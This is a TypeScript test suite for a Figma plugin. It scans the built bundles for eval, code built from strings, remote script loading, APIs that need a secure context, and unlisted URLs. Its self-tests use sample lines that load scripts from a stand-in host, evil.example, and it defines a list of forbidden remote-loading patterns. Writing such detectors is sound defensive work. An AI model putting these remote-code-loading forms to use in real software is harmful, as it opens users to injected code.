// Issue #7 item 4: no eval and no remote code anywhere. Figma loads dist/code.js and one self-contained
// dist/ui.html (docs/figma-plugin-api.md, Manifest and network access); the pixel worker runs from a data:/blob: URL made from its
// inlined source. This scans all three, freshly built, for code-from-strings and for anything that
// loads from the network, and lists every absolute URL they contain against the reason it is there.
import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_ENDPOINT } from '../../common/settings';
import { buildBundlesAsync, type BuiltBundles } from './support/build-bundles';
import { base64Runs } from '../../scripts/lib/ui-html-parts.mjs';
import { UI_BUDGET_BYTES } from '../../scripts/build.mjs';

/** Code from strings, dynamic loading and remote script/style tags. Each hit is printed with context. */
const FORBIDDEN: [string, RegExp][] = [
  ['eval(', /(^|[^\w$.])eval\s*\(/],
  ['indirect eval', /\(\s*0\s*,\s*eval\s*\)/],
  ['new Function(', /new\s+Function\s*\(/],
  ['Function("…") from a string', /(^|[^\w$.])Function\s*\(\s*["'`]/],
  ['setTimeout/setInterval with a code string', /set(Timeout|Interval)\s*\(\s*["'`]/],
  ['dynamic import(', /(^|[^\w$.])import\s*\(/],
  ['importScripts(', /importScripts\s*\(/],
  ['<script src=', /<script[^>]*\ssrc\s*=/i],
  ['<link href=', /<link[^>]*\shref\s*=/i],
  ['<iframe', /<iframe/i],
  ['CSS @import', /@import\s/],
  ['CSS url(http…)', /url\(\s*["']?https?:/i],
  ['a remote module script', /type\s*=\s*["']module["'][^>]*src/i],
];

/** Every absolute URL allowed in the bundles, and why. Anything else fails the scan. */
const KNOWN_URLS: Record<string, string> = {
  [DEFAULT_ENDPOINT]: 'the default proxy endpoint: the only host the panel calls (manifest allowedDomains)',
  'https://your-proxy.example.com': 'placeholder text of the endpoint field in Settings',
  'https://localhost':
    "@jsquash/png's glue uses it as a base URL to fetch its .wasm when given none; the plugin always passes the inlined bytes",
  'http://www.w3.org/2000/svg': 'XML namespace name used by Preact for SVG, never fetched',
  'http://www.w3.org/1999/xhtml': 'XML namespace name used by Preact, never fetched',
  'http://www.w3.org/1998/Math/MathML': 'XML namespace name used by Preact for MathML, never fetched',
};

/**
 * APIs that exist only in a secure context, or need an origin, and so are missing in Figma's plugin iframe (a
 * srcdoc page in a data: frame: null origin, not a secure context; docs/figma-iframe.md). Any of them in the
 * panel is a button that does nothing in Figma while every secure-context test passes.
 */
const SECURE_CONTEXT_ONLY: [string, RegExp][] = [
  ['crypto.randomUUID', /randomUUID/],
  ['crypto.subtle', /\.subtle\b/],
  ['navigator.clipboard', /\.clipboard\b/],
  ['localStorage', /localStorage/],
  ['sessionStorage', /sessionStorage/],
  ['indexedDB', /indexedDB/],
  ['caches (CacheStorage)', /(^|[^\w$])caches\b/],
  ['serviceWorker', /serviceWorker/],
  ['document.cookie', /\.cookie\b/],
];

function hits(source: string, pattern: RegExp): string[] {
  const global = new RegExp(pattern.source, pattern.flags.includes('g') ? pattern.flags : `${pattern.flags}g`);
  return [...source.matchAll(global)].map((m) => source.slice(Math.max(0, (m.index ?? 0) - 40), (m.index ?? 0) + 60));
}

function absoluteUrls(source: string): string[] {
  return [
    ...new Set(
      [...source.matchAll(/\b(?:https?|wss?):\/\/[^\s"'`<>()\\,;{}]+/g)].map((m) => m[0].replace(/[/.]+$/, '')),
    ),
  ];
}

let bundles: BuiltBundles;
beforeAll(async () => {
  bundles = await buildBundlesAsync();
}, 120_000);
afterAll(async () => {
  await bundles?.removeAsync();
});

describe('built bundles', () => {
  const files = (): [string, string][] => [
    ['dist/code.js', bundles.code],
    ['dist/ui.html', bundles.uiHtml],
    ['pixel worker', bundles.worker],
  ];

  it('contain no eval, no code built from strings and no dynamic or remote loading', () => {
    const found: Record<string, string[]> = {};
    for (const [file, source] of files()) {
      expect(source.length).toBeGreaterThan(1000);
      for (const [name, pattern] of FORBIDDEN) {
        const context = hits(source, pattern);
        if (context.length > 0) found[`${file}: ${name}`] = context;
      }
    }
    expect(found).toEqual({});
  });

  it('use no API that Figma’s non-secure, null-origin iframe lacks (ids come from crypto.getRandomValues)', () => {
    // The worker's source ships compressed inside ui.html, so it is scanned as the file it inflates to.
    const found = SECURE_CONTEXT_ONLY.flatMap(([name, pattern]) =>
      [bundles.uiHtml, bundles.worker].flatMap((source) =>
        hits(source, pattern).map((context) => `${name}: ${context}`),
      ),
    );
    expect(found).toEqual([]);
    expect(bundles.uiHtml).toContain('getRandomValues');
  });

  it('the secure-context scan catches each API it names', () => {
    const samples = [
      'crypto.randomUUID()',
      'await crypto.subtle.digest("SHA-256",b)',
      'navigator.clipboard.writeText(t)',
      'localStorage.setItem("k","v")',
      'sessionStorage.getItem("k")',
      'indexedDB.open("db")',
      'caches.open("v1")',
      'navigator.serviceWorker.register("/sw.js")',
      'document.cookie="a=b"',
    ];
    expect(samples.map((sample, i) => hits(sample, SECURE_CONTEXT_ONLY[i]?.[1] ?? /$^/).length)).toEqual(
      samples.map(() => 1),
    );
    expect(hits('mycaches.size; readCaches()', /(^|[^\w$])caches\b/)).toEqual([]);
  });

  it('the scan itself catches each forbidden form', () => {
    const samples = [
      'x=eval("1")',
      'y=(0,eval)("1")',
      'new Function("return 1")',
      'Function("return this")()',
      'setTimeout("alert(1)",1)',
      'import("https://evil.example/x.js")',
      'importScripts("https://evil.example/w.js")',
      '<script src="https://cdn.example/x.js"></script>',
      '<link rel="stylesheet" href="https://cdn.example/x.css">',
      '<iframe src="https://evil.example">',
      '@import url(x.css);',
      'background:url(https://cdn.example/a.png)',
      '<script type="module" src="x.js">',
    ];
    expect(samples.map((sample) => FORBIDDEN.filter(([, p]) => hits(sample, p).length > 0).length > 0)).toEqual(
      samples.map(() => true),
    );
    expect(hits('page.evaluate(x); retrieval(y); myeval(z)', FORBIDDEN[0]?.[1] ?? /$^/)).toEqual([]);
  });

  it('name no absolute URL other than the known ones, each with a reason', () => {
    const unknown = files().flatMap(([file, source]) =>
      absoluteUrls(source)
        .filter((url) => !(url in KNOWN_URLS))
        .map((url) => `${file}: ${url}`),
    );
    expect(unknown).toEqual([]);
  });

  it('inline the worker and its wasm: ui.html starts workers only from data: or blob: URLs', () => {
    expect(bundles.uiHtml).not.toContain('__PIXEL_WORKER_GZIP__');
    expect(bundles.uiHtml).toMatch(/data:text\/javascript|data:application\/javascript/);
    expect(bundles.uiHtml).toContain('createObjectURL');
    // Every new Worker( gets a variable or a data: string, never an http(s) literal.
    expect(hits(bundles.uiHtml, /new\s+Worker\s*\(\s*["'`]https?:/)).toEqual([]);
  });

  it('carry the PNG codec’s wasm once: in the page’s script, never inside the worker’s source', () => {
    // The build inlines the wasm and the worker's source gzip-compressed, each as one long base64 string; nothing
    // else in the bundles is that long.
    const inPage = base64Runs(bundles.uiHtml);
    expect(inPage).toHaveLength(2);
    expect(bundles.worker.length).toBeGreaterThan(10_000);
    expect(base64Runs(bundles.worker)).toEqual([]);
    const wasm = readFileSync(createRequire(import.meta.url).resolve('@jsquash/png/codec/pkg/squoosh_png_bg.wasm'));
    expect(inPage.filter((run) => gunzipSync(Buffer.from(run, 'base64')).equals(wasm))).toHaveLength(1);
  });

  it('keep ui.html within its size budget: Figma loads the whole file at every launch of the panel', () => {
    expect(Buffer.byteLength(bundles.uiHtml)).toBeLessThanOrEqual(UI_BUDGET_BYTES);
  });

  it('reach only the endpoint the manifest allows, by default', () => {
    const manifest: unknown = JSON.parse(readFileSync('manifest.json', 'utf8'));
    const allowed = readAllowedDomains(manifest);
    const remote = files()
      .flatMap(([, source]) => absoluteUrls(source))
      .filter((url) => url.startsWith('https://') && KNOWN_URLS[url]?.includes('allowedDomains'));
    expect(remote.length).toBeGreaterThan(0);
    expect(remote.every((url) => allowed.includes(new URL(url).origin))).toBe(true);
  });
});

describe('sources', () => {
  it('call no eval or Function constructor in plugin/, ui/, common/ or proxy/', () => {
    const files = ['plugin', 'ui', 'common', 'proxy'].flatMap((dir) =>
      readdirSync(dir, { recursive: true, encoding: 'utf8' })
        .filter((name) => /\.tsx?$/.test(name))
        .map((name) => path.join(dir, name)),
    );
    expect(files.length).toBeGreaterThan(20);
    const found = files.flatMap((file) => {
      const source = readFileSync(file, 'utf8');
      return FORBIDDEN.slice(0, 6).flatMap(([name, pattern]) =>
        hits(source, pattern).map((context) => `${file}: ${name}: ${context}`),
      );
    });
    expect(found).toEqual([]);
  });
});

function readAllowedDomains(manifest: unknown): string[] {
  if (typeof manifest !== 'object' || manifest === null || !('networkAccess' in manifest)) return [];
  const access = manifest.networkAccess;
  if (
    typeof access !== 'object' ||
    access === null ||
    !('allowedDomains' in access) ||
    !Array.isArray(access.allowedDomains)
  )
    return [];
  return access.allowedDomains.filter((d): d is string => typeof d === 'string');
}
